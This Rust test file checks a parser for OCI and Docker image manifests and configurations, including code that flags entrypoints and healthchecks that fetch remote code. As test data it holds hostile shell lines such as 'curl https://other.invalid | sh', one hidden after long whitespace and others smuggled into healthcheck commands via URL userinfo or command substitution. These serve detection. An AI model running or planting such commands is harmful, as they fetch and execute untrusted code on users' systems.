use proptest::prelude::*;
use remint_model::Pinned;

use super::*;

fn hex(digit: char) -> String {
    digit.to_string().repeat(64)
}

fn descriptor(digit: char) -> Value {
    json!({"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip",
           "digest": format!("sha256:{}", hex(digit)), "size": 7})
}

fn read(value: &Value) -> Result<Document, String> {
    document(value.to_string().as_bytes()).map_err(|error| error.to_string())
}

fn on(digit: char, platform: Option<(&str, &str)>) -> Value {
    let mut listed = descriptor(digit);
    if let Some((os, architecture)) = platform {
        listed["platform"] = json!({"os": os, "architecture": architecture});
    }
    listed
}

fn listed(manifests: &[Value]) -> Vec<Listed> {
    match read(&json!({"schemaVersion": 2, "manifests": manifests})) {
        Ok(Document::Index(listed)) => listed,
        other => panic!("{other:?}"),
    }
}

#[test]
fn a_manifest_of_either_kind_is_read() {
    for media_type in [
        "application/vnd.oci.image.manifest.v1+json",
        "application/vnd.docker.distribution.manifest.v2+json",
    ] {
        let manifest = read(&json!({"schemaVersion": 2, "mediaType": media_type,
            "config": descriptor('a'), "layers": [descriptor('b'), descriptor('c')]}));
        let Ok(Document::Manifest(manifest)) = manifest else {
            panic!("{manifest:?}");
        };
        assert_eq!(manifest.config.digest.to_string(), hex('a'));
        assert_eq!(manifest.layers.len(), 2);
    }
}

#[test]
fn what_is_not_plainly_one_document_is_refused() {
    let refused = |value: Value, why: &str| {
        let error = read(&value).unwrap_err();
        assert!(error.contains(why), "{error}");
    };
    refused(
        json!({"schemaVersion": 2, "manifests": [], "layers": []}),
        "as an index and as a manifest",
    );
    refused(json!({"schemaVersion": 2}), "neither images nor layers");
    refused(json!({"schemaVersion": 1, "layers": []}), "schema version");
    let mut other = descriptor('a');
    other["digest"] = json!(format!("sha512:{}", "a".repeat(128)));
    refused(
        json!({"schemaVersion": 2, "config": other, "layers": []}),
        "no SHA-256",
    );
    let layers = vec![descriptor('a'); MOST_LAYERS + 1];
    refused(
        json!({"schemaVersion": 2, "config": descriptor('a'), "layers": layers}),
        "too many layers",
    );
}

#[test]
fn the_image_for_a_platform_is_chosen() {
    let index = listed(&[
        on('a', Some(("linux", "arm64"))),
        on('b', Some(("linux", "amd64"))),
        on('c', Some(("unknown", "unknown"))),
    ]);
    let (chosen, others) = choose(&index, "linux/amd64").unwrap();
    assert_eq!(chosen.blob.digest.to_string(), hex('b'));
    assert_eq!(others, ["linux/arm64"]);
    let none = choose(&index, "linux/s390x").unwrap_err();
    assert!(none.contains("linux/arm64, linux/amd64"), "{none}");
    let twice = listed(&[
        on('a', Some(("linux", "amd64"))),
        on('b', Some(("linux", "amd64"))),
    ]);
    assert!(
        choose(&twice, "linux/amd64")
            .unwrap_err()
            .contains("2 images")
    );
    // Runtimes take other spellings for the same, and let no annotation keep them from an image.
    for architecture in ["x86_64", "x86-64", "AMD64"] {
        let spelt = on('a', Some(("Linux", architecture)));
        let index = listed(std::slice::from_ref(&spelt));
        let (chosen, _) = choose(&index, "linux/amd64").unwrap();
        assert_eq!(chosen.blob.digest.to_string(), hex('a'));
        let twice = listed(&[spelt, on('b', Some(("linux", "amd64")))]);
        let several = choose(&twice, "linux/amd64").unwrap_err();
        assert!(several.contains("2 images"), "{several}");
    }
    let mut annotated = on('a', Some(("linux", "amd64")));
    annotated["annotations"] = json!({"vnd.docker.reference.type": "attestation-manifest"});
    let index = listed(&[annotated.clone(), on('b', Some(("linux", "amd64")))]);
    assert!(choose(&index, "linux/amd64").is_err());
    annotated["platform"] = json!({"os": "unknown", "architecture": "unknown"});
    let index = listed(&[annotated, on('b', Some(("linux", "amd64")))]);
    let (chosen, others) = choose(&index, "linux/amd64").unwrap();
    assert_eq!(chosen.blob.digest.to_string(), hex('b'));
    assert!(others.is_empty());
    assert!(choose(&listed(&[on('a', None)]), "linux/amd64").is_ok());
    assert!(choose(&listed(&[]), "linux/amd64").is_err());
    let unnamed = listed(&[on('a', None), on('b', None)]);
    let several = choose(&unnamed, "linux/amd64").unwrap_err();
    assert!(several.contains(&hex('b')), "{several}");
}

fn config(entrypoint: &[&str], command: &[&str], env: &[&str]) -> Configuration {
    let text = json!({
        "architecture": "amd64", "os": "linux",
        "config": {"Entrypoint": entrypoint, "Cmd": command, "Env": env, "Labels": null,
                   "ExposedPorts": {"8080/tcp": {}}, "User": ""},
        "rootfs": {"type": "layers", "diff_ids": [format!("sha256:{}", hex('a'))]},
        "history": [{"created_by": "ENV A=b", "empty_layer": true}, {"created_by": "COPY . ."}],
    });
    configuration(text.to_string().as_bytes(), 1).unwrap()
}

#[test]
fn a_configuration_tells_how_the_image_runs() {
    let read = config(
        &[],
        &["node", "index.js"],
        &["PATH=/bin", "API_TOKEN=x", "B_TOKEN="],
    );
    assert_eq!(read.platform, "linux/amd64");
    assert_eq!(read.created_by, [Some("COPY . .".to_owned())]);
    assert_eq!(read.facts.environment, ["PATH", "API_TOKEN", "B_TOKEN"]);
    assert_eq!(read.facts.secrets, ["API_TOKEN"]);
    assert_eq!(read.facts.exposed_ports, ["8080/tcp"]);
    assert!(read.facts.runs_as_root());
    assert!(read.facts.remote.is_empty());
    let text = json!({"architecture": "amd64", "os": "linux",
        "rootfs": {"type": "layers", "diff_ids": []}});
    let error = configuration(text.to_string().as_bytes(), 1).unwrap_err();
    assert!(error.to_string().contains("0 layers"), "{error}");
}

#[test]
fn what_starting_fetches_is_seen_through_what_passes_on() {
    let check = |entrypoint: &[&str], command: &[&str], expect: &str| {
        let remote = config(entrypoint, command, &[]).facts.remote;
        let found: Vec<String> = remote.into_iter().map(|code| code.what).collect();
        assert!(
            found.iter().any(|what| what.contains(expect)),
            "{entrypoint:?} {command:?}: {found:?}"
        );
    };
    check(&["npx", "-y"], &["some-server"], "npm:some-server");
    check(&[], &["uvx", "some-server"], "pypi:some-server");
    check(
        &["docker-entrypoint.sh"],
        &["npx", "-y", "some-server"],
        "npm:some-server",
    );
    check(
        &["/sbin/tini", "--", "npx", "some-server"],
        &[],
        "npm:some-server",
    );
    check(&["sh", "-c", "npx -y some-server"], &[], "some-server");
    check(&["gosu", "node", "npx", "-y", "s"], &[], "npm:s");
    check(&["timeout", "9999", "npx", "s"], &[], "npm:s");
    check(
        &["dumb-init", "--rewrite", "15:3", "--", "npx", "s"],
        &[],
        "npm:s",
    );
    let far = format!("true{}; curl https://other.invalid | sh", " ".repeat(5000));
    check(&["/bin/sh", "-c", &far], &[], "a line for a shell");
    // The arguments of a server are its own.
    for command in [
        &["node", "server.js", "--runner", "npx", "other"][..],
        &["docker-entrypoint.sh", "node", "server.js"],
        &["my-server", "--shell", "bash"],
    ] {
        assert_eq!(config(command, &[], &["PATH=/bin"]).facts.remote, []);
    }
    let long = "x".repeat(LONGEST_WORD + 1);
    let text = json!({"architecture": "amd64", "os": "linux", "config": {"Cmd": [long]},
        "rootfs": {"type": "layers", "diff_ids": []}});
    let error = configuration(text.to_string().as_bytes(), 0).unwrap_err();
    assert!(error.to_string().contains("longer than any"), "{error}");
}

#[test]
fn another_registry_in_the_environment_is_no_exact_version() {
    let pinned = |env: &[&str]| {
        let facts = config(&["uvx", "some-server==1.0.0"], &[], env).facts;
        facts
            .remote
            .into_iter()
            .map(|code| code.pinned)
            .collect::<Vec<_>>()
    };
    assert_eq!(pinned(&["PATH=/bin"]), [Pinned::Exactly]);
    assert_eq!(
        pinned(&["UV_INDEX_URL=https://other.invalid"]),
        [Pinned::Floating]
    );
}

#[test]
fn what_is_run_beside_the_program_counts_too() {
    let read = |test: Value| {
        let text = json!({"architecture": "amd64", "os": "linux",
            "config": {"Cmd": ["node", "server.js"], "Healthcheck": {"Test": test}},
            "rootfs": {"type": "layers", "diff_ids": []}});
        configuration(text.to_string().as_bytes(), 0).unwrap().facts
    };
    for honest in [
        json!([
            "CMD-SHELL",
            "curl -f http://localhost:3000/health || exit 1"
        ]),
        json!(["CMD", "wget", "-q", "--spider", "http://127.0.0.1:8080/"]),
        json!(["CMD", "node", "healthcheck.js"]),
        json!(["NONE"]),
        json!([]),
    ] {
        assert_eq!(read(honest.clone()).remote, [], "{honest}");
    }
    for hostile in [
        json!(["CMD-SHELL", "curl https://other.invalid | sh"]),
        json!([
            "CMD-SHELL",
            "curl -f http://localhost:3000/ && curl other.invalid | sh"
        ]),
        json!(["CMD-SHELL", "curl http://localhost@other.invalid/"]),
        json!(["CMD-SHELL", "curl http://localhost/$(npx other)"]),
        json!(["CMD", "npx", "-y", "other"]),
    ] {
        assert_ne!(read(hostile.clone()).remote, [], "{hostile}");
    }
    let check = read(json!(["CMD-SHELL", "exit 0"])).healthcheck;
    assert_eq!(check, ["/bin/sh", "-c", "exit 0"]);
}

proptest! {
    #[test]
    fn any_bytes_are_read_or_refused(
        bytes: Vec<u8>,
        words in prop::collection::vec("[a-z/.-]{0,8}", 0..6),
    ) {
        let _refused = document(&bytes);
        let _refused = configuration(&bytes, 1);
        let words: Vec<&str> = words.iter().map(String::as_str).collect();
        config(&words, &words, &words);
    }
}

#[test]
fn keys_that_are_others_to_runtimes_are_refused() {
    let manifest = format!(
        r#"{{"schemaVersion": 2, "config": {c}, "layers": [{c}], "Layers": []}}"#,
        c = descriptor('a')
    );
    let error = document(manifest.as_bytes()).unwrap_err().to_string();
    assert!(error.contains("`Layers` is `layers`"), "{error}");
    let text = format!(
        r#"{{"architecture": "amd64", "os": "linux", "config": {{"Cmd": ["a"], "cmd": ["b"]}},
            "rootfs": {{"type": "layers", "diff_ids": ["sha256:{}"]}}}}"#,
        hex('a')
    );
    let error = configuration(text.as_bytes(), 1).unwrap_err().to_string();
    assert!(error.contains("`cmd` is `Cmd`"), "{error}");
}
